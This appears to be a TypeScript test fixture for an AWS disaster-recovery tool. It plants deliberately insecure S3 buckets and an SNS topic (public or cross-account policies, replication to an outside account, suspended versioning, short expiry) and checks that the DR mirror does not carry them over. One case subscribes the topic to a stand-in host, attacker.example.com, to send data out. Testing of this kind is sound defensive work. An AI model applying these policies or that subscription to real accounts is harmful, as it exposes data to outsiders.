import * as s3 from '@aws-sdk/client-s3';
import * as sns from '@aws-sdk/client-sns';
import { vaultNames } from '../../../names';
import type { Bucket, DrDocuments } from './drDocuments';
import { outsidersIn, servicesForOutsiders } from './evaluation';
import { type Config, DR_ACCOUNT, OUTSIDER, policyText, SOURCE_ACCOUNT, type Way } from './way';

const client = (source: Config) => new s3.S3Client({ ...(source as object), forcePathStyle: true });

/** A versioned bucket. */
export async function bucket(source: Config, Bucket: string): Promise<s3.S3Client> {
  const to = client(source);
  await to.send(
    new s3.CreateBucketCommand({
      Bucket,
      CreateBucketConfiguration: { LocationConstraint: source.region as 'eu-west-1' },
    }),
  );
  await to.send(
    new s3.PutBucketVersioningCommand({ Bucket, VersioningConfiguration: { Status: 'Enabled' } }),
  );
  return to;
}

/** The mirror of a bucket, by the name that it has by default. */
const mirrorOf = (dr: DrDocuments, name: string): Bucket | undefined =>
  dr.buckets.get(`${name}-${DR_ACCOUNT}`);

/** A bucket of which something is asked. */
function ofBucket(
  name: string,
  what: string,
  plant: (to: s3.S3Client, Bucket: string) => Promise<unknown>,
  opened: (found: Bucket) => readonly string[],
): Way {
  return {
    name: what,
    plant: async (source) => void (await plant(await bucket(source, name), name)),
    opened(dr) {
      const found = mirrorOf(dr, name);
      return found ? opened(found) : [`${name} has no mirror to look at`];
    },
  };
}

/** Opens a bucket by its policy, once it no longer blocks that. */
async function policy(to: s3.S3Client, Bucket: string, statement: object): Promise<void> {
  await to.send(new s3.DeletePublicAccessBlockCommand({ Bucket }));
  const Policy = policyText({
    Effect: 'Allow',
    Action: 's3:*',
    Resource: [`arn:aws:s3:::${Bucket}`, `arn:aws:s3:::${Bucket}/*`],
    ...statement,
  });
  await to.send(new s3.PutBucketPolicyCommand({ Bucket, Policy }));
}

const open = ({ policy: found }: Bucket) =>
  found ? [...outsidersIn(found), ...servicesForOutsiders(found)] : [];

/** By buckets, and what becomes of their data. */
export const BUCKET_WAYS: readonly Way[] = [
  ofBucket(
    'w-public',
    'a bucket that everybody may read and write',
    (to, Bucket) => policy(to, Bucket, { Principal: '*' }),
    (found) => [...open(found), ...(found.blocksPublic ? [] : ['it does not block public access'])],
  ),
  ofBucket(
    'w-theirs',
    'a bucket for another account, under conditions',
    (to, Bucket) =>
      policy(to, Bucket, {
        Principal: { AWS: OUTSIDER },
        Condition: { StringLike: { 'aws:PrincipalArn': '*' } },
      }),
    open,
  ),
  ofBucket(
    'w-own',
    'a bucket for the source itself',
    (to, Bucket) => policy(to, Bucket, { Principal: { AWS: `arn:aws:iam::${SOURCE_ACCOUNT}:root` } }),
    open,
  ),
  ofBucket(
    'w-deputy',
    'a bucket that a service may fill for anybody',
    (to, Bucket) => policy(to, Bucket, { Principal: { Service: 'logging.s3.amazonaws.com' } }),
    open,
  ),
  ofBucket(
    'w-expires',
    'data that expires in a day',
    (to, Bucket) =>
      to.send(
        new s3.PutBucketLifecycleConfigurationCommand({
          Bucket,
          LifecycleConfiguration: {
            Rules: [
              {
                ID: 'all',
                Status: 'Enabled',
                Filter: { Prefix: '' },
                Expiration: { Days: 1 },
                NoncurrentVersionExpiration: { NoncurrentDays: 1 },
              },
            ],
          },
        }),
      ),
    ({ expires }) => (expires ? ['it expires'] : []),
  ),
  ofBucket(
    'w-suspended',
    'versions that are no longer kept',
    (to, Bucket) =>
      to.send(
        new s3.PutBucketVersioningCommand({ Bucket, VersioningConfiguration: { Status: 'Suspended' } }),
      ),
    ({ versioning }) => (versioning === 'Enabled' ? [] : [`its versioning is ${versioning}`]),
  ),
  ofBucket(
    'w-replicates',
    'data that is sent on to another account',
    (to, Bucket) =>
      to.send(
        new s3.PutBucketReplicationCommand({
          Bucket,
          ReplicationConfiguration: {
            Role: `arn:aws:iam::${SOURCE_ACCOUNT}:role/w-admin`,
            Rules: [
              {
                ID: 'out',
                Status: 'Enabled',
                Priority: 1,
                Filter: { Prefix: '' },
                DeleteMarkerReplication: { Status: 'Disabled' },
                Destination: { Bucket: 'arn:aws:s3:::theirs', Account: OUTSIDER },
              },
            ],
          },
        }),
      ),
    ({ replicates }) => (replicates ? ['it is replicated'] : []),
  ),
  {
    name: 'a bucket whose name leads to the vault’s',
    plant: async (source) => void (await bucket(source, 'lifeboat-inventory')),
    opened(dr) {
      const { inventoryBucket } = vaultNames(DR_ACCOUNT, 'eu-central-1');
      const vault = dr.buckets.get(inventoryBucket);
      return vault?.versioning === 'Enabled' && vault.blocksPublic ? [] : ['the vault’s bucket was changed'];
    },
  },
];

/** By topics. */
export const TOPIC_WAYS: readonly Way[] = [
  {
    name: 'a topic that everybody may subscribe to, and that is read elsewhere',
    async plant(source) {
      const to = new sns.SNSClient(source as object);
      const { TopicArn } = await to.send(new sns.CreateTopicCommand({ Name: 'w-topic' }));
      await to.send(
        new sns.SetTopicAttributesCommand({
          TopicArn,
          AttributeName: 'Policy',
          AttributeValue: policyText(
            { Effect: 'Allow', Principal: { AWS: '*' }, Action: 'sns:Subscribe', Resource: TopicArn },
            {
              Effect: 'Allow',
              Principal: { Service: 's3.amazonaws.com' },
              Action: 'sns:Publish',
              Resource: TopicArn,
            },
          ),
        }),
      );
      await to.send(
        new sns.SubscribeCommand({ TopicArn, Protocol: 'https', Endpoint: 'https://attacker.example.com/' }),
      );
    },
    opened({ topics, subscriptions }) {
      const found = topics.get('w-topic');
      return [
        ...(found
          ? [...outsidersIn(found), ...servicesForOutsiders(found)]
          : ['w-topic has no mirror to look at']),
        ...subscriptions.filter((endpoint) => endpoint.includes('attacker')),
      ];
    },
  },
];
